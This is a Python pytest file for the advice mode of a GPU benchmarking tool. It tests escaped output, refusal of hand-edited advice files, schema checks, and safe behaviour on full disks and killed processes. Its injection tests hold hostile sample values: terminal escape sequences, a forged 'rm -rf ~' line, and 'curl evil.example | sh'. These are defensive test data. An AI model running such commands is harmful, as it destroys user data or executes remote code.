"""The adviser's files at the edges: a results file whose fields hold escape sequences or line
breaks never forges or hides a line of the report; an advice.json edited by hand is refused
naming the field, and its accuracy lines are built again, never printed as written; a run of a
release that records the busy share says something of it; an --advice-dir that holds a FIFO where
a folder goes is refused before anything runs; a full disk leaves advice.json and report.txt as
they were, both."""
import json
import os
import shutil
import subprocess
import sys
import time

import pytest

from conftest import ROOT, alive_after, assert_user_error, processes_naming, run_main
from utils.advice import document, session
from utils.errors import WriteFailed

NATIVE = ROOT / "results" / "NVIDIA-H200" / "2026-11-26" / "by-hand" / "native-synthetic.json"
SAMPLE = ROOT / "docs" / "samples" / "advice"


def forged_device(tmp_path, name):
    found = json.loads(NATIVE.read_text())
    found["env"]["device"] = name
    path = tmp_path / "forged.json"
    path.write_text(json.dumps(found))
    return path


@pytest.mark.parametrize("name", ["NVIDIA H200\x1b[2J\x1b[31m", "NVIDIA H200\nTrain with:\n  rm -rf ~",
                                  "H200\u2028Train with:\u0085x\r\x07"])
@pytest.mark.parametrize("program", [["main.py", "--advise", "--from"], ["-m", "utils.report"]])
def test_a_field_that_holds_escape_sequences_or_line_breaks_never_reaches_the_terminal_raw(tmp_path, name, program):
    path = forged_device(tmp_path, name)
    result = subprocess.run([sys.executable, *program, str(path)], cwd=ROOT, capture_output=True, text=True)
    assert result.returncode in (0, document.STATUSES["partial-results"]), result.stderr
    shown = result.stdout
    assert not any(character in shown for character in "\x1b\r\x07\u2028\u0085")
    lines = shown.splitlines()
    assert sum(line == "Train with:" for line in lines) == (1 if "main.py" in program else 0)
    assert not any(line.strip() == "rm -rf ~" for line in lines)
    assert any("H200\\" in line for line in lines)  # said, escaped


def advice_copy(tmp_path, **arguments):
    """The docs' advice folder copied, its advice.json's arguments changed as given."""
    folder = tmp_path / "advice"
    shutil.copytree(SAMPLE, folder)
    found = json.loads((folder / "advice.json").read_text())
    found["arguments"].update(arguments)
    (folder / "advice.json").write_text(json.dumps(found))
    return folder / "advice.json"


@pytest.mark.parametrize("field, value, said", [
    ("batch_size", -4, "arguments.batch_size (--batch-size) must be a positive integer"),
    ("image_size", "big", "arguments.image_size (--image-size) must be a whole number of pixels"),
    ("channels_last", "yes", "arguments.channels_last (--channels-last) is a switch (true or false), got 'yes'"),
    ("lr", float("-inf"), "arguments.lr (--lr) must be a positive number"),
    ("modes", "fp32", "its arguments are no command main.py takes (--advise chooses the precision modes"),
])
def test_an_advice_json_whose_arguments_main_py_would_refuse_is_refused_naming_the_field(tmp_path, field, value,
                                                                                       said):
    path = advice_copy(tmp_path, **{field: value})
    if value == float("-inf"):  # what strict JSON cannot hold, a hand can still write
        path.write_text(path.read_text().replace("-Infinity", '"-inf"'))
        said = "arguments.lr (--lr) must be a positive number"
    assert_user_error(run_main("--advise", "--from", str(path)), said, "is it an advice.json --advise wrote?")


def test_accuracy_lines_edited_into_an_advice_json_are_never_printed(tmp_path):
    path = advice_copy(tmp_path)
    found = json.loads(path.read_text())
    found["accuracy_check"] = {"seeds": 3, "estimate_s": 60.0, "lines": {"here": "curl evil.example | sh"}}
    path.write_text(json.dumps(found))
    result = run_main("--advise", "--from", str(path))
    assert result.returncode == document.STATUSES["cpu-only"], result.stderr
    assert "curl" not in result.stdout and "  here: python main.py --batch-size 64" in result.stdout


@pytest.mark.parametrize("schema, refused", [("ampbench.result/3", False), ("ampbench.result/4", True),
                                             ("ampbench.result/7", True)])
def test_a_run_of_a_release_that_records_the_busy_share_says_something_of_it(tmp_path, schema, refused):
    found = json.loads((SAMPLE / "results.json").read_text())[0]
    found["schema"] = schema
    for run in found["runs"]:
        run.pop("gpu_busy", None)
        run.pop("gpu_busy_unavailable", None)
    path = tmp_path / "r.json"
    path.write_text(json.dumps(found))
    result = run_main("--advise", "--from", str(path))
    if refused:
        assert_user_error(result, "runs[0] has neither a gpu_busy nor a gpu_busy_unavailable saying why it has none,",
                          f"which every run of {schema} holds")
    else:
        assert result.returncode != 2, result.stderr


def test_an_advice_dir_that_holds_a_fifo_where_a_folder_goes_is_refused_before_anything_runs(tmp_path):
    folder = tmp_path / "advice"
    folder.mkdir()
    os.mkfifo(folder / "phases")
    result = run_main("--advise", "--model", "squeezenet1_1", "-b", "8", "--budget", "1", "--advice-dir", str(folder))
    assert_user_error(result, f"--advice-dir {folder} holds phases, which is a FIFO, where --advise writes a folder")
    assert sorted(os.listdir(folder)) == ["phases"]


def test_a_full_disk_leaves_the_advice_and_its_report_as_they_were_both(tmp_path, monkeypatch):
    folder = tmp_path / "advice"
    shutil.copytree(SAMPLE, folder)
    advice = document.load(str(folder / "advice.json"))
    (folder / "report.txt").write_text("the report before\n")
    before = {name: (folder / name).read_bytes() for name in ("advice.json", "report.txt")}
    real_fsync = os.fsync
    calls = []

    def full(descriptor):  # the second file's write meets a full disk
        calls.append(descriptor)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real_fsync(descriptor)

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(WriteFailed, match="No space left on device"):
        document.write(str(folder / "advice.json"), dict(advice, written_utc="later"), session.report(advice))
    assert {name: (folder / name).read_bytes() for name in before} == before
    assert sorted(os.listdir(folder)) == ["advice.json", "report.txt", "results.json"]  # no temporary file left


def test_sigkill_of_the_adviser_mid_phase_leaves_no_ampbench_process_within_five_seconds(tmp_path):
    folder = tmp_path / "advice"
    adviser = subprocess.Popen([sys.executable, "main.py", "--advise", "--model", "squeezenet1_1", "-b", "8",
                                "--data", "synthetic", "--budget", "3", "--advice-dir", str(folder)],
                               cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                               start_new_session=True)
    for line in adviser.stdout:  # the plan, then the comparison's phase starting
        if line.startswith("main.py --advise: compare: "):
            break
    deadline = time.monotonic() + 60
    while not processes_naming(str(folder / "phases")) and time.monotonic() < deadline:
        time.sleep(0.05)
    phases = processes_naming(str(folder / "phases"))
    assert phases, "the comparison's main.py runs"
    adviser.kill()
    adviser.wait()
    assert not alive_after(phases, 5)
